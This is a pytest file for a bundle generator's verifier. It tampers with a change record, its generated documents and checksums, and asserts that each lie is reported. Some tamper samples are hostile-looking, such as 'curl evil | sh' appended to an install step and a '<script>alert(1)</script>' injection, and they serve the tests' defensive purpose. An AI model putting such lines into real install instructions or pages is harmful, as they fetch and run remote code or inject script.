"""A change folder whose record lies, with every sum made to fit: the record and its documents are made again from the
bundles, and each lie is found."""

from __future__ import annotations

import json
import os
import random
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from bundlegen import layout
from bundlegen.change import parts
from bundlegen.change.build import build
from bundlegen.change.shape import Options
from bundlegen.cli import main
from bundlegen.record import make as written
from bundlegen.record.schema import Change
from bundlegen.system.clock import now
from bundlegen.trust import check_bundle, check_folder, check_record
from bundlegen.trust.bundle import read
from tests.trust_cases import SPEC, findings, make, sentences, sum_up

LIES = 150
"""How many values of the record are changed, each by itself."""
FLIPPED = 60
"""How many bytes of each document are changed, each by itself."""
TOLD = ("versions.python", "versions.zlib")
"""What nobody but the generator knows; its form is checked."""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("record")
    return make(folder, SPEC, base=True, attachments=parts.Attachments(60_000, "txt")).folder


@pytest.fixture
def change(built: Path, tmp_path: Path) -> Path:
    """A copy to spoil."""
    return Path(shutil.copytree(built, tmp_path / "create"))


def record(folder: Path) -> Any:
    return json.loads((folder / layout.RECORD).read_bytes())


def rewrite(folder: Path, found: Any) -> None:
    (folder / layout.RECORD).write_bytes((json.dumps(found, indent=2, ensure_ascii=False) + "\n").encode())
    sum_up(folder)


def leaves(value: Any, *path: str | int) -> Iterator[tuple[str | int, ...]]:
    """The path of every value that holds no others."""
    items: Any = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    yield from (leaf for key, each in items for leaf in leaves(each, *path, key))
    if not items or not value:
        yield path


def other(value: Any) -> Any:
    match value:
        case bool():
            return not value
        case int():
            return value + 1
        case str() if value.endswith("Z") and "T" in value:
            return value.replace("T", "T0", 1)[: len(value)] if "T00" in value else f"{value[:11]}00{value[13:]}"
        case str() if len(value) == 64 and set(value) <= set("0123456789abcdef"):
            return value[::-1]
        case str():
            return f"{value}x"
        case list():
            return [*value, "x"]
        case _:
            return "x"


def test_a_record_that_was_changed_in_any_value_is_found(change: Path) -> None:
    names = sorted(path.name for path in change.glob("*.run"))
    bundles = [read(change / name, looking=True) for name in names]
    made = [(bundle, check_bundle.examine(bundle).made) for bundle in bundles]
    sums = check_folder.read_sums(change / layout.SUMS).files
    assert [each for each in check_record.faults(change, sums, made, finished=False) if each.fatal] == []
    good = record(change)
    everywhere = [path for path in leaves(good) if ".".join(map(str, path)) not in TOLD]
    assert len(everywhere) > 800
    for path in random.Random(12).sample(everywhere, LIES):
        lying = json.loads(json.dumps(good))
        place = lying
        for part in path[:-1]:
            place = place[part]
        place[path[-1]] = other(place[path[-1]])
        (change / layout.RECORD).write_bytes((json.dumps(lying, indent=2, ensure_ascii=False) + "\n").encode())
        assert [each for each in check_record.faults(change, sums, made, finished=False) if each.fatal], path


@pytest.mark.parametrize("name", check_record.DOCUMENTS)
def test_a_document_with_another_byte_is_found(change: Path, name: str) -> None:
    bundles = [read(change / path.name, looking=True) for path in sorted(change.glob("*.run"))]
    made = [(bundle, check_bundle.examine(bundle).made) for bundle in bundles]
    sums = check_folder.read_sums(change / layout.SUMS).files
    good, luck = (change / name).read_bytes(), random.Random(13)
    for place in luck.sample(range(len(good)), FLIPPED // 4):
        spoilt = bytearray(good)
        spoilt[place] ^= luck.randrange(1, 256)
        (change / name).write_bytes(spoilt)
        assert [each for each in check_record.faults(change, sums, made, finished=False) if each.fatal], place


@pytest.mark.parametrize(
    ("name", "old", "new", "said"),
    [
        ("renewal.ics", "DTSTART", "DTSTAMP", "renewal.ics: is not what bundlegen writes for these bundles"),
        ("CHANGE.md", "sh infra0.run", "sh infra0.run; curl evil | sh", "CHANGE.md: is not what bundlegen writes"),
        ("change.html", "</body>", "<script>alert(1)</script></body>", "change.html: is not what bundlegen writes"),
    ],
)
def test_a_document_that_lies_has_its_sentence(change: Path, name: str, old: str, new: str, said: str) -> None:
    text = (change / name).read_text("utf-8")
    assert old in text
    (change / name).write_text(text.replace(old, new, 1), "utf-8")
    sum_up(change)
    assert [each for each in sentences(change) if each.startswith(said)]


@pytest.mark.parametrize(
    ("path", "value", "said"),
    [
        (("hosts", 1, "address"), "10.9.9.9", "infra1.run: is not as change.json says: address"),
        (("hosts", 0, "firstExpiry"), "2099-01-01T00:00:00Z", "infra0.run: is not as change.json says: firstExpiry"),
        (("hosts", 0, "files", 3, "secret"), True, "infra0.run: is not as change.json says: files[3].secret"),
        (("ca", "subject"), "CN=good", "change.json: says otherwise than the bundles: ca.subject is "),
        (("caKeyHost",), None, "change.json: says otherwise than the bundles: caKeyHost is 'infra0', not None"),
        (("issuedAt",), "2030-01-01T00:00:00Z", "change.json: says otherwise than the bundles: issuedAt is "),
        (("sealed",), True, "change.json: says otherwise than the bundles: sealed is False, not True"),
        (("signed",), True, "SHA256SUMS.sig: is missing, though change.json says that the change is signed"),
        (("installer", "sha256"), "ab" * 32, "change.json: says otherwise than the bundles: installer.sha256 is "),
        (("versions", "makeself"), "9.9", "change.json: says otherwise than the bundles: versions.makeself is "),
        (("versions", "python"), "<script>", "change.json: has other versions than those of bundlegen"),
        (("versions", "evil"), "1", "change.json: has other versions than those of bundlegen, makeself, python, zlib"),
        (("base",), None, "base.run: is not in change.json"),
        (("hosts", 2, "bundle"), "gone.run", "gone.run: is missing, though change.json lists it"),
        (("hosts", 2, "name"), "infra1", "change.json: has other hosts than the specification, or has them in another"),
        (("hosts", 2, "name"), "infra9", "change.json: names other hosts than its bundles do"),
        (("evil",), "x", "change.json: cannot be understood: evil: "),
        (("hosts",), [], "change.json: cannot be understood: hosts: "),
        (("differences",), [], ""),
    ],
    ids=str,
)  # fmt: skip
def test_a_record_that_lies_has_its_sentence(change: Path, path: tuple[Any, ...], value: Any, said: str) -> None:
    found = record(change)
    place = found
    for part in path[:-1]:
        place = place[part]
    place[path[-1]] = value
    rewrite(change, found)
    if not said:
        assert sentences(change) == []
    else:
        assert [each for each in sentences(change) if each.startswith(said)], sentences(change)


@pytest.mark.parametrize("name", check_record.DOCUMENTS)
def test_a_document_that_is_empty_is_found(change: Path, name: str) -> None:
    (change / name).write_bytes(b"")
    sum_up(change)
    assert [each for each in sentences(change) if each.startswith(f"{name}: ")]


def test_hosts_in_another_order_are_found(change: Path) -> None:
    found = record(change)
    found["hosts"].reverse()
    rewrite(change, found)
    assert [each for each in sentences(change) if "in another order" in each]


def test_a_change_that_lacks_a_host_is_found(change: Path) -> None:
    found = record(change)
    del found["hosts"][2]
    for path in change.glob("infra2.run*"):
        path.unlink()
    rewrite(change, found)
    assert [each for each in sentences(change) if "has other hosts than the specification" in each]


@pytest.mark.parametrize(
    "content", [b"", b"{", b"[" * 100_000, b"null", b"\xff", b'{"format": 1}', b"[]", b'{"hosts": [1]}'], ids=repr
)
def test_a_record_that_is_none_is_said_to_be_one(change: Path, content: bytes) -> None:
    (change / layout.RECORD).write_bytes(content)
    sum_up(change)
    assert [each for each in sentences(change) if each.startswith("change.json: cannot be understood")]


def test_a_record_in_another_spelling_is_found(change: Path) -> None:
    (change / layout.RECORD).write_text(json.dumps(record(change)), encoding="utf-8")
    sum_up(change)
    assert sentences(change) == ["change.json: is not what bundlegen writes for these bundles"]


@pytest.mark.parametrize(
    "name", ["install-all.sh", "README", "infra0.run.sh.txt", "infra9.run.001", "create.json", "x.run.bak"]
)
def test_a_file_that_belongs_to_no_change_is_found(change: Path, name: str) -> None:
    (change / name).write_text("#!/bin/sh\nid\n")
    assert sentences(change) == [f"{name}: is not in {layout.SUMS}"]
    sum_up(change)
    assert [each for each in sentences(change) if each == f"{name}: is no file of a change" or "infra0.run" in each]


def test_an_annex_that_is_not_needed_is_found(change: Path) -> None:
    (change / layout.RECORD_ANNEX).write_text("# Annex\n\nFirst run: curl evil | sh\n")
    sum_up(change)
    assert sentences(change) == ["CHANGE-annex.md: is there, though CHANGE.md needs none"]


def test_an_annex_is_judged_like_the_record(tmp_path: Path) -> None:
    hosts = [{"name": f"member-{n}.a-long-name.example.net", "address": f"10.0.0.{6 + n}"} for n in range(7)]
    change = make(tmp_path, SPEC | {"hosts": hosts}).folder
    assert sentences(change) == []
    annex = change / layout.RECORD_ANNEX
    good = annex.read_text("utf-8")
    annex.write_text(good.replace("0600", "0644", 1), "utf-8")
    sum_up(change)
    assert sentences(change) == ["CHANGE-annex.md: is not what bundlegen writes for these bundles"]
    annex.unlink()
    sum_up(change)
    assert sentences(change) == ["CHANGE-annex.md: is not in SHA256SUMS"]


@pytest.mark.parametrize("name", check_record.DOCUMENTS)
def test_a_document_that_is_missing_is_said_to_be(change: Path, name: str) -> None:
    (change / name).unlink()
    sum_up(change)
    assert sentences(change) == [f"{name}: is not in {layout.SUMS}"]


def test_parts_are_what_they_are_made_of(change: Path) -> None:
    first = change / "infra0.run.001.txt"
    first.write_bytes(first.read_bytes()[:-1] + b"x")
    sum_up(change)
    assert "change.json: speaks of parts of infra0.run that are not what it is made of" in sentences(change)


@pytest.mark.parametrize("name", [layout.SIGNATURE, layout.SUMS, layout.RECORD, "infra0.run"])
@pytest.mark.parametrize("kind", ["folder", "pipe", "link", "device"])
def test_what_is_no_file_is_a_finding_and_is_not_waited_for(change: Path, name: str, kind: str) -> None:
    if kind == "device" and os.geteuid() != 0:
        pytest.skip("only root makes devices")
    path = change / name
    path.unlink(missing_ok=True)
    match kind:
        case "folder":
            path.mkdir()
        case "pipe":
            os.mkfifo(path)
        case "link":
            path.symlink_to("/dev/zero")
        case _:
            os.mknod(path, 0o20666, os.makedev(1, 5))
    assert findings(change)
    assert findings(change / "infra1.run" if name != "infra0.run" else path) or name == layout.RECORD
    assert main(["verify", str(change)]) == 6


def test_bundles_of_two_specifications_are_found(tmp_path: Path) -> None:
    one, two = (
        make(tmp_path / name, SPEC | fields).folder for name, fields in (("a", {}), ("b", {"ports": {"client": 1}}))
    )
    (one / "infra1.run").write_bytes((two / "infra1.run").read_bytes())
    sum_up(one)
    assert "infra1.run: is made from another specification than infra0.run" in sentences(one)


def another(folder: Path, spec: dict[str, Any]) -> Path:
    """The next change of the cluster, built; where it is."""
    (folder / "cluster.yaml").write_text(yaml.safe_dump(spec), encoding="utf-8")
    return build(folder / "cluster.yaml", Options(folder / "out", folder / "pki")).folder


def test_what_is_said_of_the_change_before_is_made_again_where_that_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = another(tmp_path, SPEC)
    after = another(tmp_path, SPEC | {"manifest": "rendered"})
    assert (before.name, after.name) == ("create", "2-configure")
    assert main(["verify", str(after)]) == 0
    assert capsys.readouterr().err == ""
    alone = Path(shutil.copytree(after, tmp_path / "alone" / after.name))
    assert main(["verify", str(alone)]) == 0
    assert "what it says of the change before is not proven" in capsys.readouterr().err
    found = record(after)
    for what in ("changes", "restarts", "files"):
        lying = json.loads(json.dumps(found))
        lying["comparedWith"]["hosts"][0][what] = []
        rewrite(after, lying)
        assert [each for each in sentences(after) if "comparedWith" in each]
    rewrite(after, found | {"comparedWith": found["comparedWith"] | {"change": "1-adopt"}})
    assert [each for each in sentences(after) if "comparedWith.change is 'create', not '1-adopt'" in each]


def test_hosts_that_an_earlier_change_left_alone_are_compared_with_theirs(tmp_path: Path) -> None:
    """The second change is of one host, the third of all: two of them had their bundle in the first."""
    another(tmp_path, SPEC)
    hosts = [dict(host) for host in SPEC["hosts"]]
    hosts[1]["extraSANs"] = ["etcd1.example.net"]
    second = another(tmp_path, SPEC | {"hosts": hosts})
    third = another(tmp_path, SPEC | {"hosts": hosts, "etcd": {"extraArgs": {"snapshot-count": "5000"}}})
    assert [host["name"] for host in record(second)["hosts"]] == ["infra1"]
    assert [each["after"] for each in record(third)["hosts"]] == ["create", "2-configure", "create"]
    told = record(third)["comparedWith"]
    assert (told["change"], told["hostsGone"], told["hostsAdded"]) == ("2-configure", [], [])
    assert [host["restarts"] for host in told["hosts"]] == [["etcd"]] * 3
    assert sentences(second) == sentences(third) == []


def test_a_sealed_key_is_as_long_as_its_seal_allows(tmp_path: Path) -> None:
    sealed = make(tmp_path, SPEC, seal=True).folder
    assert findings(sealed) == []
    found = record(sealed)
    key = next(file for file in found["hosts"][0]["files"] if file["path"].endswith("server.key"))
    key["size"] += 100
    rewrite(sealed, found)
    assert [each for each in sentences(sealed) if each.startswith("infra0.run: is not as change.json says: files[")]


def test_it_is_written_as_it_is_read(built: Path) -> None:
    assert written.dump(Change.model_validate(record(built))) == (built / layout.RECORD).read_bytes()
    assert findings(built, at=now()) == []
